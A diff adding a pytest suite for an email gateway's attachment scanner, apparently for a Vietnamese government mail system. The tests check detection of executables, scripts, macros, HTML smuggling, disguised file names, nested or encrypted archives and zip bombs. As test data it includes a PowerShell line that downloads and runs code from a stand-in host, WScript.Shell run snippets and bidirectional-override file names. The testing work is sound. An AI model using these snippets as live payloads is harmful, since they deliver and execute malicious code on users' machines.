@@ -1,0 +1,235 @@
+"""Attachment scanning (HUE-11.5) on crafted, harmless samples: every file type, every
+archive case, lying names, macros with real OLE/OOXML structure, limits, YARA reload."""
+
+from __future__ import annotations
+
+import time
+import tracemalloc
+from pathlib import Path
+
+import pytest
+
+from congvu_guard.config import Config, ReportConfig, ScanConfig
+from congvu_guard.detectors.yara_scan import YaraError, YaraScanner
+from congvu_guard.engine import Engine
+from congvu_guard.model import Action, Envelope
+from congvu_guard.scan import wire_size
+from tests import samples
+from tests.helpers import EICAR
+
+ENV = Envelope(sender="x@example.net", recipients=["bob@hue.gov.vn"], hop="inbound")
+BOX_CFG = {"report": {"address": "tiepnhan@hue.gov.vn"}}
+
+
+@pytest.fixture(scope="module")
+def engine() -> Engine:
+    from congvu_guard.config import from_mapping
+
+    return Engine(from_mapping(BOX_CFG))
+
+
+def judge(engine: Engine, raw: bytes):
+    return engine.check_message(ENV, raw, wire_size(raw))
+
+
+def rules_of(v) -> set[str]:
+    return set(v.rules)
+
+
+def one(name: str, data: bytes, ctype: str = "application/octet-stream") -> bytes:
+    return samples.mime_message("s", [(name, ctype, data)])
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "rule", "action"),
+    [
+        ("setup.exe", samples.pe_exe(), "HUE-11.5/exec", Action.REJECT),
+        ("tool", samples.elf(), "HUE-11.5/exec", Action.REJECT),
+        ("hoadon.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('x');",
+         "HUE-11.5/script", Action.REJECT),
+        ("run.vbs", b'Set o = CreateObject("WScript.Shell")\r\no.Run "calc"',
+         "HUE-11.5/script", Action.REJECT),
+        ("a.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+         "HUE-11.5/script", Action.REJECT),
+        ("b.hta", b"<html><hta:application id=x><script>x</script></html>",
+         "HUE-11.5/script", Action.REJECT),
+        ("c.bat", b"@echo off\r\npowershell -c whoami\r\n", "HUE-11.5/script", Action.REJECT),
+        ("tai-lieu.lnk", samples.lnk(), "HUE-11.5/lnk", Action.REJECT),
+        ("hoso.iso", samples.iso(), "HUE-11.5/disk-image", Action.QUARANTINE),
+        ("bao-cao.docm", samples.ooxml(macro=True), "HUE-11.5/macro", Action.QUARANTINE),
+        ("bang-luong.xls", samples.xls_with_macros(), "HUE-11.5/macro", Action.QUARANTINE),
+        ("thu-moi.pdf", samples.pdf(js=True), "HUE-11.5/pdf-active", Action.QUARANTINE),
+        ("hoadon.html", samples.smuggling_html(), "HUE-11.5/html-smuggling",
+         Action.QUARANTINE),
+        ("eicar.com", EICAR, "HUE-11.5/yara", Action.REJECT),
+    ],
+)
+def test_each_file_type_is_found_by_content(engine: Engine, name: str, data: bytes, rule: str,
+                                           action: Action) -> None:
+    v = judge(engine, one(name, data))
+    assert rule in rules_of(v), v.findings
+    assert v.action is action
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "problem"),
+    [
+        ("invoice.pdf.exe", samples.pe_exe(), "double extension"),
+        ("hop-dong.pdf", samples.pe_exe(), "named .pdf but is pe"),
+        ("photo.jpg", samples.pe_exe(), "named .jpg but is pe"),
+        ("report\u202efdp.exe", samples.pe_exe(), "bidirectional override"),
+        ("scan.pdf          .js", b"new ActiveXObject('x'); eval('y')", "hidden behind"),
+    ],
+)
+def test_names_and_types_that_lie(engine: Engine, name: str, data: bytes, problem: str) -> None:
+    v = judge(engine, one(name, data))
+    lies = [f for f in v.findings if f.rule == "HUE-11.5/name-lie"]
+    assert any(problem in f.detail for f in lies), v.findings
+
+
+def test_declared_type_that_lies(engine: Engine) -> None:
+    v = judge(engine, one("anh", samples.pe_exe(), "image/png"))
+    assert any("declared image/png but is pe" in f.detail for f in v.findings)
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("bao-cao.docx", samples.ooxml(macro=False)),
+        ("cong-van.doc", samples.plain_ole_doc()),
+        ("thu-moi.pdf", samples.pdf(js=False)),
+        ("ghi-chu.txt", "Kính gửi các đơn vị.".encode()),
+        ("anh.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100),
+    ],
+)
+def test_clean_documents_pass(engine: Engine, name: str, data: bytes) -> None:
+    v = judge(engine, one(name, data))
+    assert v.action is Action.ACCEPT, v.findings
+
+
+@pytest.mark.parametrize(
+    ("wrap", "rule"),
+    [
+        (lambda: samples.zip_of({"a/setup.exe": samples.pe_exe()}), "HUE-11.5/exec"),
+        (lambda: samples.tar_gz({"x/run.js": b"new ActiveXObject('a'); eval('b')"}),
+         "HUE-11.5/script"),
+        (lambda: samples.seven_zip({"doc.docm": samples.ooxml(macro=True)}), "HUE-11.5/macro"),
+        (lambda: samples.zip_of({"in.zip": samples.zip_of({"eicar.com": EICAR})}),
+         "HUE-11.5/yara"),
+    ],
+)
+def test_archives_are_opened_recursively(engine: Engine, wrap, rule: str) -> None:
+    v = judge(engine, one("goi.bin", wrap()))
+    assert rule in rules_of(v), v.findings
+    paths = [f.fact("path") for f in v.findings if f.rule == rule]
+    assert any(":" in p for p in paths)  # the member is named: 2/goi.bin:member
+
+
+def test_eicar_four_levels_deep_in_messages_inside_zips(engine: Engine) -> None:
+    inner = samples.mime_message("level 4", [("eicar.com", "application/octet-stream", EICAR)])
+    for level in (3, 2, 1):
+        z = samples.zip_of({f"thu-{level}.eml": inner})
+        inner = samples.mime_message(f"level {level}", [(f"goi-{level}.zip",
+                                                         "application/zip", z)])
+    v = judge(engine, inner)
+    [hit] = [f for f in v.findings if f.rule == "HUE-11.5/yara"]
+    assert v.action is Action.REJECT
+    assert hit.fact("path").count(":") >= 5, hit.fact("path")
+
+
+def test_nesting_past_the_limit_is_a_finding() -> None:
+    e = Engine(Config(scan=ScanConfig(max_depth=2), report=ReportConfig(address="t@hue.gov.vn")))
+    data = EICAR
+    for i in range(6):
+        data = samples.zip_of({f"l{i}.zip" if i else "eicar.com": data})
+    v = judge(e, one("deep.zip", data))
+    assert "HUE-11.5/archive-limit" in rules_of(v)
+    assert v.action is Action.QUARANTINE
+
+
+def test_zip_bomb_is_a_finding_within_time_and_memory(engine: Engine) -> None:
+    bomb = samples.zip_bomb(50)
+    assert len(bomb) < 200_000
+    tracemalloc.start()
+    t0 = time.monotonic()
+    v = judge(engine, one("bomb.zip", bomb))
+    elapsed = time.monotonic() - t0
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert "HUE-11.5/archive-bomb" in rules_of(v)
+    assert v.action is Action.QUARANTINE
+    assert peak < 40 * 1024 * 1024, peak  # the 50 MiB were never expanded
+    assert elapsed < 30  # generous bound: a hang would be minutes
+
+
+def test_many_members_hit_the_member_limit() -> None:
+    e = Engine(Config(scan=ScanConfig(max_members=20)))
+    v = judge(e, one("many.zip", samples.zip_of({f"f{i}.txt": b"x" for i in range(50)})))
+    assert "HUE-11.5/archive-limit" in rules_of(v)
+
+
+def test_encrypted_archives_are_findings_with_the_password_lure(engine: Engine) -> None:
+    z = samples.encrypted_zip("hoadon.pdf", samples.pe_exe())
+    v = judge(engine, samples.mime_message(
+        "Hoa don", [("hoadon.zip", "application/zip", z)],
+        body="Mật khẩu giải nén: 123456"))
+    [f] = [f for f in v.findings if f.rule == "HUE-11.5/encrypted-archive"]
+    assert "password given in the message body" in f.detail
+    assert v.action is Action.QUARANTINE
+    v7 = judge(engine, one("a.7z", samples.seven_zip({"a.txt": b"secret"}, password="pw")))
+    assert "HUE-11.5/encrypted-archive" in rules_of(v7)
+    quiet = judge(engine, samples.mime_message("x", [("z.zip", "application/zip", z)],
+                                               body="Xem tep."))
+    [f] = [f for f in quiet.findings if f.rule == "HUE-11.5/encrypted-archive"]
+    assert "password" not in f.detail
+
+
+def test_unreadable_archive_is_a_low_finding(engine: Engine) -> None:
+    v = judge(engine, one("broken.zip", b"PK\x03\x04" + b"\xff" * 200))
+    assert v.action in (Action.TAG, Action.ACCEPT)
+
+
+def test_policy_tables_decide_by_rule_then_severity_per_direction() -> None:
+    from congvu_guard.config import from_mapping
+
+    cfg = from_mapping({**BOX_CFG, "policy": {
+        "inbound": {"medium": "tag", "HUE-11.5/exec": "quarantine"},
+        "outbound": {"medium": "reject"}}})
+    e = Engine(cfg)
+    macro = samples.macro_message("x")
+    assert judge(e, macro).action is Action.TAG
+    exe = one("a.exe", samples.pe_exe())
+    assert judge(e, exe).action is Action.QUARANTINE
+    out_env = Envelope(sender="bob@hue.gov.vn", recipients=["x@example.net"],
+                       auth_user="bob", hop="submission")
+    assert e.check_message(out_env, macro, wire_size(macro)).action is Action.REJECT
+
+
+def test_unknown_policy_key_is_a_config_error() -> None:
+    from congvu_guard.config import ConfigError, from_mapping
+
+    with pytest.raises(ConfigError, match="severe"):
+        Engine(from_mapping({"policy": {"inbound": {"severe": "reject"}}}))
+
+
+def test_yara_reload_keeps_the_old_rules_when_a_file_is_broken(tmp_path: Path) -> None:
+    (tmp_path / "local.yar").write_text(
+        'rule Local_Marker { meta: severity = "high" strings: $a = "CONGVU-TEST-MARKER" '
+        "condition: $a }")
+    scanner = YaraScanner([str(tmp_path)], timeout_seconds=5)
+    assert [m.rule for m in scanner.match(b"xx CONGVU-TEST-MARKER xx")] == ["Local_Marker"]
+    (tmp_path / "broken.yar").write_text("rule Broken { condition: $nothing_defined }")
+    assert scanner.reload() is False
+    assert [m.rule for m in scanner.match(b"CONGVU-TEST-MARKER")] == ["Local_Marker"]
+    (tmp_path / "broken.yar").unlink()
+    (tmp_path / "local.yar").write_text('rule Local_Two { strings: $a = "OTHER" condition: $a }')
+    assert scanner.reload() is True
+    assert [m.rule for m in scanner.match(b"OTHER CONGVU-TEST-MARKER")] == ["Local_Two"]
+
+
+def test_a_bad_rule_file_is_a_clear_start_up_error(tmp_path: Path) -> None:
+    (tmp_path / "bad.yar").write_text("rule { nope")
+    with pytest.raises(YaraError, match=r"bad\.yar"):
+        YaraScanner([str(tmp_path)], timeout_seconds=5)
+    with pytest.raises(YaraError, match="does not exist"):
+        YaraScanner([str(tmp_path / "missing")], timeout_seconds=5)
